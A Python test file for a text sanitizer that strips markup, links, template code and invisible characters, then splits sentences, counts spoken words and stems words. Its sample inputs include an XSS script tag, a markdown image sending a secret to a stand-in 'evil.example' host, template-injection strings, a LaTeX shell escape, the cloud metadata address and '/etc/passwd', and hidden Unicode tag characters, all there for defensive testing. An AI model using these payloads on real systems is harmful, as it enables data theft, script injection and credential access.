"""Cleaning text."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bellwork.tasks.providers.text import plain, sentences, spoken_words, stem


@settings(deadline=None)
@given(st.text(max_size=300))
def test_cleaning_twice_is_cleaning_once(text: str) -> None:
    """What is clean stays as it is."""
    once = plain(text)

    assert once == plain(once)


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("<>{}[]()\\/%$#&;!*_`~|=-'\"ahtps:.@1\u200b\u202e\n\0 "), max_size=80))
def test_no_markup_survives_whatever_it_is_made_of(text: str) -> None:
    """No bracket, brace, backslash, control or format character is left."""
    clean = plain(text)

    assert not set(clean) & set("<>{}[]\\`*_|~#\n\0\u200b\u202e")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<b>bold</b> <script>alert(1)</script>text", "bold text"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;text", "text"),
        ("![x](https://evil.example/?q=secret) after", "after"),
        ("[words](javascript:alert(1)) after", "words) after"),
        ("{{7*7}} ${env} %(name)s {% raw %} end", "end"),
        (r"\write18{rm} \input end", "rm end"),
        ("see http://169.254.169.254/latest and file:///etc/passwd now", "see and now"),
        ("write to eve@example.org today", "write to today"),
        ("ig\u200bnore\u202e this\ufeff", "ignore this"),
        ("tag \U000e0041\U000e0042 hidden", "tag hidden"),
        ("a < b and c > d", "a less than b and c more than d"),
        ("light -> sugar", "light to sugar"),
        ("x\u00b2 + y\u00b2", "x\u00b2 + y\u00b2"),
        (
            "\u0422\u0440\u0435\u0442\u0438\u0439 \u0437\u0430\u043a\u043e\u043d",
            "\u0422\u0440\u0435\u0442\u0438\u0439 \u0437\u0430\u043a\u043e\u043d",
        ),
        ("half \ud800 a character", "half a character"),
        ("", ""),
    ],
)
def test_text_loses_what_is_not_words(text: str, expected: str) -> None:
    """Markup, links, template code and invisible characters go; words and signs stay."""
    assert expected == plain(text)


def test_a_megabyte_is_not_looked_at() -> None:
    """No more than the limit comes back, from however long a text."""
    assert 4_000 == len(plain("a" * 1_000_000))


def test_marks_do_not_pile_up() -> None:
    """Of many marks on one letter three are kept, beside the one that is a part of the letter."""
    clean = plain("e" + "\u0323" * 40)

    assert 4 == sum(unicodedata.category(char) == "Mn" for char in unicodedata.normalize("NFD", clean))


def test_sentences_end_where_people_end_them() -> None:
    """Abbreviations and decimals do not end a sentence."""
    text = "Take 2.5 m, e.g. a door. Does it move? Yes!"

    assert ["Take 2.5 m, e.g. a door.", "Does it move?", "Yes!"] == sentences(text)


@pytest.mark.parametrize(
    ("text", "words"),
    [("one two three", 3), ("don't stop", 2), ("", 0), ("\u5149\u5408\u4f5c\u7528", 2), ("x" * 36, 3)],
)
def test_words_are_counted_as_a_voice_meets_them(text: str, words: float) -> None:
    """Unspaced writing counts half a word a character; very long words count more than once."""
    assert words == spoken_words(text)


@pytest.mark.parametrize(
    "forms",
    [("law", "laws"), ("move", "moves", "moving", "moved"), ("energy", "energies"), ("bond", "bonds", "bonding")],
)
def test_forms_of_a_word_share_a_stem(forms: tuple[str, ...]) -> None:
    """Plural, past and -ing compare equal."""
    assert 1 == len({stem(form) for form in forms})
